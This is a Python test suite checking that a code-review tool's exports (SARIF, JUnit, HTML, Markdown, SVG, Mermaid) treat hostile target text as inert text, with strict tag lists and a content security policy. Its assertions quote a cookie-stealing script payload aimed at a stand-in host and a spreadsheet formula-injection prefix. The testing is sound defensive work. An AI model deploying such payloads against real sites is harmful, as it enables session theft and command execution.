"""Every export says the same, is valid in its format, and takes a target's text for text, whatever stands in it."""

from __future__ import annotations

import base64
import hashlib
import json
import re
import unicodedata
from datetime import date
from html.parser import HTMLParser
from pathlib import Path

import cmarkgfm
import jsonschema
import pytest
from cmarkgfm.cmark import Options
from junitparser import Error, Failure, JUnitXml, Skipped
from lxml import etree
from markdown_it import MarkdownIt

from cloister.formats import xml
from cloister.review import draw
from cloister.review.record import exports
from cloister.review.record.model import WORDS, Record, make
from cloister.review.record.text import LONGEST, clean
from cloister.review.result import Edge
from cloister.review.signed import Act, Word
from cloister.review.verdict import Verdict
from tests.review.reviews import HOSTILE, review, signed_off, sound

POLICY = signed_off(kinds=1)
DAY = date(2026, 11, 20)
WORDS_GIVEN = tuple(
    Word(Act.ATTEST, "reads" if i else "E1", text[:400], text[-400:], DAY, date(2027, 1, 1), "ab" * 32)
    for i, text in enumerate(HOSTILE)
)
OBEYED = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028-\u202e\u2066-\u206f\u200b-\u200f\ufeff\U000e0000-\U000e007f]")


def record_of(made, words: tuple[Word, ...] = ()) -> Record:
    return make(made, POLICY, words, DAY, signer="ab" * 32, self_signed=True)


@pytest.fixture(scope="module")
def record() -> Record:
    return record_of(review(POLICY), WORDS_GIVEN)


@pytest.fixture(scope="module")
def made(record) -> dict[str, str]:
    return exports(record)


def test_all_seven_verdicts_are_there(record):
    assert {row.finding.verdict for row in record.rows} == set(Verdict)


def test_no_export_holds_a_character_that_is_obeyed_or_unseen(made):
    for name, text in made.items():
        assert OBEYED.findall(text) == [], name
        text.encode()


def test_text_is_cut_on_one_line_and_visible():
    for text in HOSTILE:
        line = clean(text)
        assert "\n" not in line
        assert len(line) < LONGEST + 30
        assert not any(unicodedata.category(char) in {"Cc", "Cf", "Cs", "Zl", "Zp"} for char in line)
    assert clean("x" * 5000).endswith("… (5,000 characters)")
    assert clean("plain.txt") == "plain.txt"


def test_the_sarif_is_valid(made, data):
    schema = json.loads((data / "schemas/sarif-schema-2.1.0.json").read_text())
    validator = jsonschema.validators.validator_for(schema)(schema)
    held = json.loads(made["review.sarif"])
    assert [error.message for error in validator.iter_errors(held)] == []
    broken = json.loads(made["review.sarif"])
    broken["runs"][0]["results"][0]["kind"] = "fine"
    assert list(validator.iter_errors(broken))


def test_in_sarif_only_what_was_verified_passes(made, record):
    results = json.loads(made["review.sarif"])["runs"][0]["results"]
    kinds = {each["properties"]["claim"]: (each["kind"], each["level"]) for each in results}
    for row in record.rows:
        kind, level = kinds[row.finding.claim]
        assert (kind == "pass") == (row.finding.verdict is Verdict.VERIFIED)
        assert (level == "error") == (row.finding.verdict is Verdict.REFUTED)


def test_a_parser_of_continuous_integration_reads_the_junit(made, record, tmp_path):
    file = tmp_path / "junit.xml"
    file.write_text(made["review.junit.xml"])
    (suite,) = JUnitXml.fromfile(str(file))
    found = {case.name: [type(each) for each in case.result] for case in suite}
    assert (suite.tests, suite.failures, suite.errors, suite.skipped) == (14, 1, 4, 2)
    wanted = {Verdict.VERIFIED: [], Verdict.REFUTED: [Failure], Verdict.ATTESTED: [Skipped]}
    for row in record.rows:
        assert found[row.finding.claim] == wanted.get(row.finding.verdict, [Error])


class Tags(HTMLParser):
    """Every tag with its attributes, and the text between."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text.append(data)


def words_of(*lines: str) -> frozenset[str]:
    return frozenset(word for line in lines for word in line.split())


HTML = words_of(
    "html head meta title style body header p h1 h2 h3 bdi div strong b dl dt dd ul li table thead tbody tr th td a",
    "code section span br div footer figure svg defs marker path circle rect text",
)
ATTRIBUTES = words_of(
    "lang charset http-equiv content name class role href id data-claim data-verdict aria-label aria-hidden xmlns",
    "viewbox width height font-family fill refx refy markerwidth markerheight markerunits orient d stroke stroke-width",
    "stroke-dasharray marker-end cx cy r x y rx text-anchor font-size font-weight",
)


def parsed(text: str) -> Tags:
    tags = Tags()
    tags.feed(text)
    tags.close()
    return tags


def test_the_page_has_no_tag_attribute_or_address_of_a_targets(made):
    hostile, plain = parsed(made["record.html"]), parsed(exports(record_of(sound(POLICY)))["record.html"])
    assert {tag for tag, _ in hostile.tags} <= HTML
    assert {name for _, attributes in hostile.tags for name in attributes} <= ATTRIBUTES
    links = [attributes["href"] for _, attributes in hostile.tags if "href" in attributes]
    assert all(re.fullmatch(r"#claim-[a-z-]+|evidence/claim-[a-z-]+\.dsse\.json", link) for link in links)
    assert {tag for tag, _ in plain.tags} >= {"table", "svg", "bdi"}
    assert "fetch('http://evil.example/'+document.cookie)" in "".join(hostile.text)


def test_the_page_allows_one_style_sheet_by_its_hash_and_nothing_else(made):
    page = made["record.html"]
    rule = re.search(r'http-equiv="Content-Security-Policy" content="([^"]+)"', page)[1]
    style = re.search(r"<style>(.*?)</style>", page, re.DOTALL)[1]
    digest = base64.b64encode(hashlib.sha256(style.encode()).digest()).decode()
    assert rule == f"default-src 'none'; style-src 'sha256-{digest}'; base-uri 'none'; form-action 'none'"
    assert page.index("Content-Security-Policy") < page.index("<title>")
    assert not re.search(r"url\(|@import|@font-face", style)
    assert 'style="' not in page


def test_no_cell_of_the_page_begins_as_a_formula(made):
    cells = re.findall(r"<t[dh][^>]*>((?:<[^>]+>)*)([^<]*)", made["record.html"])
    texts = [text for _, text in cells]
    assert len(texts) > 100
    assert [text for text in texts if text.lstrip().startswith(("=", "+", "-", "@", "\t"))] == []
    assert "“=cmd|" in made["record.html"]


def _rendered(text: str) -> dict[str, str]:
    body = text.partition("---\n")[2].partition("\n---\n")[2]
    flags = Options.CMARK_OPT_UNSAFE
    return {
        "github": cmarkgfm.github_flavored_markdown_to_html(body, options=flags),
        "markdown-it": MarkdownIt("gfm-like", {"html": True}).render(body),
        "commonmark": MarkdownIt("commonmark", {"html": True}).render(body),
    }


def test_the_markdown_renders_no_link_image_or_markup_of_a_targets(made):
    allowed = words_of("h1 h2 h3 p ul ol li strong em code table thead tbody tr th td blockquote br")
    for name, page in _rendered(made["record.md"]).items():
        tags = parsed(page)
        assert {tag for tag, _ in tags.tags} <= allowed, name
        assert not [attributes for _, attributes in tags.tags if "href" in attributes or "src" in attributes]


def test_the_markdown_has_our_headings_only_and_each_claim_once(made, record):
    for page in _rendered(made["record.md"]).values():
        heads = re.findall(r"<h3><code>([a-z-]+)</code>: <strong>([A-Z ]+)</strong></h3>", page)
        assert heads == [(row.finding.claim, WORDS[row.finding.verdict]) for row in record.rows]
        tops = re.findall(r"<h2>([^<]*)</h2>", page)
        assert tops == re.findall(r"^## (.*)$", exports(record_of(sound(POLICY)))["record.md"], re.MULTILINE)


def test_the_front_matter_is_that_of_madr(made, record):
    front = made["record.md"].split("---\n")[1]
    facts = {line.partition(": ")[0]: json.loads(line.partition(": ")[2]) for line in front.splitlines()}
    assert facts["status"] == "rejected"
    assert facts["date"] == "2026-11-20"
    assert facts["verdict"] == record.verdict.value
    for part in ("## Context and problem statement", "## Decision outcome"):
        assert part in made["record.md"]


SVG = {"svg", "title", "defs", "marker", "path", "circle", "rect", "text"}


def test_the_drawing_is_an_svg_of_shapes_and_text(made, record):
    tree = etree.fromstring(made["map.svg"].encode())
    names = {etree.QName(each).localname for each in tree.iter()}
    assert names <= SVG
    assert not [name for each in tree.iter() for name in each.attrib if "href" in name or name.startswith("on")]
    titles = [each.text for each in tree.iter("{*}title")]
    assert len(titles) == 1 + len({name for edge in record.review.edges for name in (edge.source, edge.target)})


NODE = re.compile(r'  n\d+\["[A-Za-z0-9 /._#;-]*"\]')
LINK = re.compile(r'  n\d+ (?:-->|-\.->|==>)\|"[A-Za-z0-9 /._#;-]*"\| n\d+')
STYLE = re.compile(r"  linkStyle \d+ stroke:#b42318")


def test_the_flow_chart_has_nodes_links_and_nothing_else(made, record):
    first, *lines = made["map.mmd"].splitlines()
    assert first == "flowchart LR"
    assert [line for line in lines if not any(form.fullmatch(line) for form in (NODE, LINK, STYLE))] == []
    assert sum(bool(LINK.fullmatch(line)) for line in lines) == len(record.review.edges)
    assert "#60;script#62;" in made["map.mmd"]


def test_of_very_many_exhibits_some_are_shown_and_all_counted():
    many = exports(record_of(review(POLICY, tuple(f"/tmp/{i}" for i in range(300)))))
    for name in ("record.md", "record.html", "review.junit.xml"):
        assert "and 250 more, in review.json" in many[name]
    assert many["record.html"].count("a file that holds a page") < 60


def test_a_way_back_and_a_circle_can_be_drawn():
    def edge(source, target):
        return Edge(source, target, "text", "minutes", "mode 600", declared=True, observed=False)

    for edges in (
        (edge("a", "b"), edge("b", "a")),
        (edge("a", "a"),),
        (),
        tuple(edge(f"n{i}", f"n{i + 1}") for i in range(30)),
    ):
        etree.fromstring(draw.svg(edges).encode())
        assert draw.mermaid(edges).startswith("flowchart LR\n")


def test_attested_is_neither_called_nor_coloured_nor_counted_as_verified(record, made):
    rows = re.findall(
        r'data-verdict="attested">\n<td class="verdict"><span class="chip ([a-z-]+)">', made["record.html"]
    )
    assert set(rows) == {"attested"}
    css = (Path(draw.__file__).parent / "record/style.css").read_text()
    looks = dict(re.findall(r"^\.([a-z-]+) \{ (color: [^}]+)\}", css, re.MULTILINE))
    assert looks["attested"] != looks["verified"]
    assert "14583b" not in looks["attested"]
    counted = record.counts()
    assert counted[Verdict.VERIFIED] == sum(row.finding.verdict is Verdict.VERIFIED for row in record.rows)
    assert record_of(sound(POLICY)).verdict is Verdict.VERIFIED


def test_the_record_is_the_same_for_the_same_review(made):
    assert made == exports(record_of(review(POLICY), WORDS_GIVEN))
    assert "\n" not in clean("\n".join(HOSTILE))
    assert xml.escaped("<") == "&lt;"
